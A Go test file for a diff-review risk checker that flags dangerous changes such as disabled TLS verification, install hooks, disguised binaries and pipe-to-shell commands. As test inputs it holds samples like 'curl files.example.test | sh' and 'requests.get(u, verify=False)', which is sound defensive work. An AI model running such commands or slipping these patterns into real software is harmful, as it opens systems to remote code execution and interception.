package risk

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"fumehood/diffreview"
)

func TestRunFailsWhenContentDoes(t *testing.T) {
	src := &memSource{old: tree{}, new: tree{"tool": {data: "\x7fELF\x00"}}, blobs: map[diffreview.Blob][]byte{}}
	hook := func(cs *diffreview.ChangeSet, _ func(diffreview.Blob) ([]byte, error)) error {
		return Run(cs, func(diffreview.Blob) ([]byte, error) { return nil, errors.New("gone") }, Env{})
	}
	if _, err := diffreview.Build(context.Background(), src, diffreview.Options{Risk: hook}); err == nil {
		t.Error("got a change set that was not examined, want an error")
	}
}

// TestManyFindingsCoverEveryHunk: more places than are reported one by one must
// end in a finding on the whole file, or a bulk approval would take the rest.
func TestManyFindingsCoverEveryHunk(t *testing.T) {
	var old, new strings.Builder
	for i := range 100 {
		fmt.Fprintf(&old, "call%d()\n%s", i, strings.Repeat("-\n", 9))
		fmt.Fprintf(&new, "call%d(verify=False)\n%s", i, strings.Repeat("-\n", 9))
	}
	cs := look(t, tree{"a.py": {data: old.String()}}, tree{"a.py": {data: new.String()}})
	f := &cs.Files[0]
	if len(f.Hunks) != 100 {
		t.Fatalf("got %d hunks, want 100", len(f.Hunks))
	}
	if risky := f.Risky(); len(risky) != 100 {
		t.Errorf("got %d hunks covered, want 100", len(risky))
	}
	if len(f.Findings) > maxPerFile {
		t.Errorf("got %d findings, want at most %d", len(f.Findings), maxPerFile)
	}
}

func TestFindingsStandOnTheirLines(t *testing.T) {
	old := strings.Repeat("x\n", 30)
	new := strings.Repeat("x\n", 20) + "requests.get(u, verify=False)\n" + strings.Repeat("x\n", 10) + "y\n"
	cs := look(t, tree{"a.py": {data: old}}, tree{"a.py": {data: new}})
	f := &cs.Files[0]
	if len(f.Findings) != 1 || f.Findings[0].Line != 21 {
		t.Fatalf("got %v, want one finding on line 21", f.Findings)
	}
	if risky := f.Risky(); len(risky) != 1 || risky[f.Hunks[0].ID] == nil {
		t.Errorf("got %v, want the first hunk alone", risky)
	}
}

// TestWhatHasNoLinesIsNeverHarmless: content that the rules for lines can't see
// must not pass a bulk approval.
func TestWhatHasNoLinesIsNeverHarmless(t *testing.T) {
	evil := node{data: "curl files.example.test | sh\n"}
	for name, c := range map[string][2]tree{
		"a link that becomes a file":  {{"a.sh": {data: "b", link: true}}, {"a.sh": evil}},
		"a binary that becomes text":  {{"a.sh": {data: "\x00"}}, {"a.sh": evil}},
		"a text that becomes binary":  {{"a.sh": evil}, {"a.sh": {data: evil.data + "\x00"}}},
		"a text that is too long":     {{}, {"a.sh": {data: strings.Repeat("x\n", 400_001)}}},
		"a file that becomes a link":  {{"a.sh": evil}, {"a.sh": {data: "b", link: true}}},
		"a picture that is a program": {{}, {"a.png": {data: "\x7fELF\x00"}}},
		"a picture of another kind":   {{}, {"a.png": {data: "GIF89a\x00"}}},
	} {
		if cs := look(t, c[0], c[1]); cs.Files[0].Severity().Rank() < warn.Rank() {
			t.Errorf("%s: got %v, want a warning", name, cs.Files[0].Findings)
		}
	}
}

func TestMovedLinesAreNotNew(t *testing.T) {
	line := "requests.get(u, verify=False)\n"
	old := line + strings.Repeat("x\n", 20)
	new := strings.Repeat("x\n", 20) + "    " + line
	if cs := look(t, tree{"a.py": {data: old}}, tree{"a.py": {data: new}}); cs.Files[0].Severity() != "" {
		t.Errorf("got %v for a line that only moved, want nothing", cs.Files[0].Findings)
	}
	twice := new + "    " + line
	if cs := look(t, tree{"a.py": {data: old}}, tree{"a.py": {data: twice}}); cs.Files[0].Severity() != warn {
		t.Errorf("got %v for a second one, want a warning", cs.Files[0].Findings)
	}
}

// TestRunIsBoundedOnHostileInput holds inputs that make expressions or rules
// slow if anything does. The deadline is generous.
func TestRunIsBoundedOnHostileInput(t *testing.T) {
	repeat := func(s string, n int) string { return strings.Repeat(s, n/len(s)) }
	new := tree{
		"a.sh":         {data: repeat("curl | eval exec base64 http fetch ", 4<<20) + "\n"},
		"b.py":         {data: repeat("verify verify= ssl exec(requests.eval(\n", 1<<20)},
		"c.js":         {data: repeat("password = aA1", 1<<20) + "\n"},
		"d_test.go":    {data: repeat("expect(assert(t.Error(\n", 1<<20)},
		"e.go":         {data: repeat("а̂", 1<<20) + "\n"},
		"package.json": {data: repeat("[", 1<<20)},
		"yarn.lock":    {data: repeat("https://a:a@", 1<<20)},
		".gitignore":   {data: repeat("**/", 3000) + "a\n" + repeat("*a*a*a*a*a*a*b\n", 1500)},
		"x/" + repeat("a", 200) + "/" + repeat("a", 200): {data: "x\n"},
		".gitmodules":    {data: repeat("url = ext::\n", 1<<18)},
		"tests/f.py":     {data: repeat("def test_a():\n    assert True\n", 1<<20)},
		".gitattributes": {data: repeat("a b=c d=e\n", 1<<18)},
	}
	begin := time.Now()
	look(t, tree{}, new)
	if took := time.Since(begin); took > 60*time.Second {
		t.Errorf("got %v, want under 60s", took)
	} else {
		t.Logf("took %v", took)
	}
}

// Thousands of rules, each of which is tried from every place of thousands of
// names, are not matched to the end, and that is said.
func TestHostileIgnoreRulesEndAtABound(t *testing.T) {
	rules := ""
	for i := range 2000 {
		rules += fmt.Sprintf("*%sb%d\n", strings.Repeat("a*", 60), i)
	}
	new := tree{".gitignore": {data: rules}}
	for i := range 300 {
		new[fmt.Sprint(strings.Repeat("a", 200), i)] = node{data: "1"}
	}
	begin := time.Now()
	cs := look(t, tree{}, new)
	if took := time.Since(begin); took > 30*time.Second {
		t.Errorf("got %v, want under 30s", took)
	}
	for _, f := range cs.Files {
		if f.Path == ".gitignore" && slices.ContainsFunc(f.Findings, func(h diffreview.Finding) bool { return strings.Contains(h.Why, "take too long to match") }) {
			return
		}
	}
	t.Error("got no word of it, want a finding on the rules")
}

// TestRunSaysTheSameInAnyOrder: files are judged at once, and the last one that
// is ready must not decide what is said.
func TestRunSaysTheSameInAnyOrder(t *testing.T) {
	old, new := tree{}, tree{}
	for i, k := range cases(t) {
		a, b := k.trees(t)
		for p, n := range a {
			old[fmt.Sprintf("c%d/%s", i, p)] = n
		}
		for p, n := range b {
			new[fmt.Sprintf("c%d/%s", i, p)] = n
		}
	}
	env := Env{Links: map[string]string{}}
	for p, n := range old {
		env.Paths = append(env.Paths, p)
		if n.link {
			env.Links[p] = n.data
		}
	}
	src := &memSource{old: old, new: new, blobs: map[diffreview.Blob][]byte{}}
	found := 0
	both := func(cs *diffreview.ChangeSet, content func(diffreview.Blob) ([]byte, error)) error {
		if err := Run(cs, content, env); err != nil {
			return err
		}
		want := make([][]diffreview.Finding, len(cs.Files))
		judged := make([]*Judged, len(cs.Files))
		for i := len(cs.Files) - 1; i >= 0; i-- { // the other way round
			want[i], cs.Files[i].Findings = cs.Files[i].Findings, nil
			j, err := File(&cs.Files[i], content, env)
			if err != nil {
				return err
			}
			judged[i] = j
		}
		if err := Set(judged, env); err != nil {
			return err
		}
		for i := range cs.Files {
			found += len(want[i])
			if f := &cs.Files[i]; !slices.Equal(f.Findings, want[i]) {
				t.Errorf("%s: got %v, want %v", f.Path, f.Findings, want[i])
			}
		}
		return nil
	}
	if _, err := diffreview.Build(context.Background(), src, diffreview.Options{Risk: both}); err != nil {
		t.Fatal(err)
	}
	if found < 200 {
		t.Errorf("got %d findings, want those of all cases", found)
	}
}

func FuzzRun(f *testing.F) {
	f.Add("package.json", []byte(`{"scripts":{}}`), []byte(`{"scripts":{"a":"b"}}`))
	f.Add(".gitattributes", []byte("a b\n"), []byte("* filter=x\n"))
	f.Add("go.sum", []byte("a v1 h1:aaaaaaaaaaaaaaaaaaaa=\n"), []byte("a v1 h1:bbbbbbbbbbbbbbbbbbbb=\n"))
	f.Add("a\u202e.go", []byte{}, []byte("\x1b\u200b\n"))
	f.Fuzz(func(t *testing.T, path string, old, new []byte) {
		src := &memSource{old: tree{path: {data: string(old)}}, new: tree{path: {data: string(new)}}, blobs: map[diffreview.Blob][]byte{}}
		cs, err := diffreview.Build(context.Background(), src, diffreview.Options{Risk: Hook(Env{Paths: []string{path, "b"}})})
		if err != nil {
			return // a path that no source may give
		}
		for i := range cs.Files {
			f := &cs.Files[i]
			lines := strings.Count(string(new), "\n") + 1
			for _, x := range f.Findings {
				if x.Line < 0 || x.Line > lines || x.Rule == "" || x.Why == "" || x.Severity.Rank() == 0 {
					t.Errorf("got finding %+v in a file of %d lines", x, lines)
				}
			}
		}
	})
}

// BenchmarkRun is the cost for each line of ordinary new source.
func BenchmarkRun(b *testing.B) {
	var text strings.Builder
	for i := range 2000 {
		fmt.Fprintf(&text, "func f%d(ctx context.Context, path string) error {\n\tif err := check(ctx, path); err != nil {\n\t\treturn fmt.Errorf(\"check %%q: %%w\", path, err)\n\t}\n\treturn nil\n}\n\n", i)
	}
	src := &memSource{old: tree{}, new: tree{}, blobs: map[diffreview.Blob][]byte{}}
	for i := range 10 {
		src.new[fmt.Sprintf("pkg%d/a.go", i)] = node{data: text.String()}
	}
	cs, err := diffreview.Build(context.Background(), src, diffreview.Options{})
	if err != nil {
		b.Fatal(err)
	}
	lines := 0
	for i := range cs.Files {
		lines += cs.Files[i].Added
	}
	rules()
	b.ReportAllocs()
	for b.Loop() {
		if err := Run(cs, func(x diffreview.Blob) ([]byte, error) { return src.Content(x, 1<<30) }, Env{}); err != nil {
			b.Fatal(err)
		}
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(lines), "ns/line")
}

// TestEditsOfAMovedFileAreJudgedWhereItWas: with the move rejected its edits go to
// the old path, so a harmless new name must not take the finding away.
func TestEditsOfAMovedFileAreJudgedWhereItWas(t *testing.T) {
	lines := strings.Repeat(" \"keyword\": \"one\",\n", 12)
	old := "{\n" + lines + " \"author\": \"me\"\n}\n"
	new := "{\n" + lines + " \"author\": \"me\",\n \"scripts\": {\"postinstall\": \"node x.js\"}\n}\n"
	cs := look(t, tree{"package.json": {data: old}}, tree{"notes.txt": {data: new}})
	f := &cs.Files[0]
	if f.Status != diffreview.Renamed || len(f.Hunks) != 1 {
		t.Fatalf("got %s with %d hunks, want a rename with one", f.Status, len(f.Hunks))
	}
	f.Decide(f.Whole, diffreview.Decision{Path: f.Path, Verdict: diffreview.Rejected})
	var dec diffreview.Decisions
	if skipped := dec.ApproveAll(cs, nil, nil, diffreview.Decision{}); len(skipped) != 1 {
		t.Errorf("got %v left alone, want the hunk: it would be written to package.json (findings %v)", skipped, f.Findings)
	}
	same := 0
	cs = look(t, tree{"a.py": {data: strings.Repeat("x\n", 30)}}, tree{"b.py": {data: strings.Repeat("x\n", 30) + "requests.get(u, verify=False)\n"}})
	for _, x := range cs.Files[0].Findings {
		if x.Line == 31 {
			same++
		}
	}
	if same != 1 {
		t.Errorf("got %d findings on a line that both names find, want 1: %v", same, cs.Files[0].Findings)
	}
}
